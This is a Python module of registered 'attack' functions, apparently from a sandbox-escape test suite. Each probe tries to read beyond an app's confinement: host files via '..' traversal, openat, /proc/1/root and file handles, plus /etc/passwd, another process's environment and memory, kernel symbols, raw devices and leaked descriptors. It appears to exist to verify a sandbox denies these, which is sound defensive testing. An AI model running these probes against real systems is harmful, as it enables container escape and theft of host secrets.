# SPDX-License-Identifier: Apache-2.0
"""Reading what is others': the host's files and processes, a neighbour app's data, the machine's devices."""

import ctypes
import os
from pathlib import Path

from escapes.registry import DeniedError, Told, attack, call

GROUP = "reading others"
AT_FDCWD = -100
_HANDLE_ROOM = 128  # bytes


@attack(GROUP)
def secret_by_path(told: Told) -> str:
    """A file of the host by its path."""
    return Path(told["secret"]).read_text()


@attack(GROUP)
def secret_by_dots(told: Told) -> str:
    """A file of the host by `..` from the app's own folder."""
    return Path(told["code"], *[".."] * 12, told["secret"].lstrip("/")).read_text()


@attack(GROUP)
def secret_by_descriptor(told: Told) -> str:
    """A file of the host by `openat` from an open folder."""
    folder = os.open("/", os.O_PATH)
    return os.read(os.open("../.." + told["secret"], os.O_RDONLY, dir_fd=folder), 100).decode()


@attack(GROUP)
def secret_by_process_root(told: Told) -> str:
    """A file of the host through a host process's root folder in /proc."""
    return Path(f"/proc/{told['victim']}/root{told['secret']}").read_text()


@attack(GROUP)
def secret_by_parent_root(told: Told) -> str:
    """A file of the host through process 1's root folder in /proc."""
    return Path(f"/proc/1/root{told['secret']}").read_text()


@attack(GROUP)
def secret_by_handle(told: Told) -> str:
    """A file by its handle instead of its path."""
    handle = ctypes.create_string_buffer(_HANDLE_ROOM)
    ctypes.c_uint.from_buffer(handle).value = _HANDLE_ROOM - 8
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, told["code"].encode(), handle, ctypes.byref(mount), 0)
    return f"descriptor {call('open_by_handle_at', os.open('/', os.O_RDONLY), handle, os.O_RDONLY)}"


@attack(GROUP)
def neighbour_data(told: Told) -> str:
    """What a neighbour app keeps."""
    return Path(told["neighbour"], "kept").read_text()


@attack(GROUP)
def temporary_of_host(told: Told) -> str:
    """The host's own temporary folder."""
    return ", ".join(one for one in os.listdir(told["shared"]) if one.startswith("host")) or _nothing()


@attack(GROUP)
def host_shared_memory(told: Told) -> str:
    """Shared memory of a host process by its name."""
    return Path("/dev/shm", told["shm"]).read_text()


@attack(GROUP)
def home_folders(_told: Told) -> str:
    """Who has a home on this machine."""
    return f"{len(os.listdir('/home'))} folders"


@attack(GROUP)
def users(_told: Told) -> str:
    """The list of users."""
    return Path("/etc/passwd").read_text()[:20]


@attack(GROUP)
def machine_id(_told: Told) -> str:
    """The machine's identity in /etc."""
    return Path("/etc/machine-id").read_text()[:4] + "…"


@attack(GROUP)
def process_list(told: Told) -> str:
    """Which processes run."""
    seen = [name for name in os.listdir("/proc") if name.isdigit()]
    return f"{len(seen)} processes" if str(told["victim"]) in seen else _nothing()


@attack(GROUP)
def environment_of_host(told: Told) -> str:
    """A host process's environment."""
    text = Path(f"/proc/{told['victim']}/environ").read_bytes().decode(errors="replace")
    return "the secret of the environment" if told["secret_text"] in text else _nothing()


@attack(GROUP)
def command_line_of_host(told: Told) -> str:
    """A host process's command line."""
    return Path(f"/proc/{told['victim']}/cmdline").read_text()[:30] or _nothing()


@attack(GROUP)
def command_line_of_init(told: Told) -> str:
    """The command line that built the box, with folders of the host."""
    text = Path("/proc/1/cmdline").read_text()
    return "a folder of the host" if any(word in text for word in told["host_words"]) else _nothing()


@attack(GROUP)
def memory_of_host(told: Told) -> str:
    """A host process's memory through /proc."""
    with open(f"/proc/{told['victim']}/mem", "rb") as memory:
        memory.seek(told["address"])
        return memory.read(8).decode(errors="replace")


@attack(GROUP)
def system_tree(_told: Told) -> str:
    """Devices and drivers in /sys."""
    return f"{len(os.listdir('/sys/class'))} classes"


@attack(GROUP)
def kernel_settings(_told: Told) -> str:
    """Kernel settings in /proc/sys."""
    return Path("/proc/sys/kernel/core_pattern").read_text()


@attack(GROUP)
def disks(_told: Told) -> str:
    """A disk, memory or log device."""
    for name in ("mem", "kmsg", "vda", "sda", "mmcblk0", "nvme0n1", "dri/card0", "snd/timer", "input/event0"):
        path = Path("/dev", name)
        if path.exists() and os.access(path, os.R_OK):
            return f"{path} can be read"
    return _nothing()


@attack(GROUP)
def kernel_log(_told: Told) -> str:
    """The kernel's log."""
    return f"{call('syslog', 10, 0, 0)} bytes"


@attack(GROUP)
def kernel_addresses(_told: Told) -> str:
    """Addresses of the kernel."""
    with Path("/proc/kallsyms").open() as file:
        address = file.readline().split()[0]
    return address if int(address, 16) else _nothing()


@attack(GROUP)
def inherited_descriptors(told: Told) -> str:
    """A descriptor that the host left open."""
    for fd in range(3, 1024):
        if fd == told["link"]:
            continue
        try:
            found = os.fstat(fd)
        except OSError:
            continue
        # The pipe to the runner of these attacks is the attacker's own.
        if not told["fork"] or (found.st_mode & 0o170000) != 0o010000:
            return f"descriptor {fd} of mode {found.st_mode:o}"
    return _nothing()


@attack(GROUP)
def installed_packages(_told: Told) -> str:
    """Which packages are installed."""
    for path in ("/var/lib/dpkg/status", "/usr/lib/python3/dist-packages", "/usr/share/doc"):
        if os.path.exists(path) and (os.path.isfile(path) or os.listdir(path)):
            return path
    return _nothing()


@attack(GROUP)
def sockets_of_system(_told: Told) -> str:
    """What listens in /run."""
    return f"{len(os.listdir('/run'))} entries"


def _nothing() -> str:
    raise DeniedError("nothing was there")
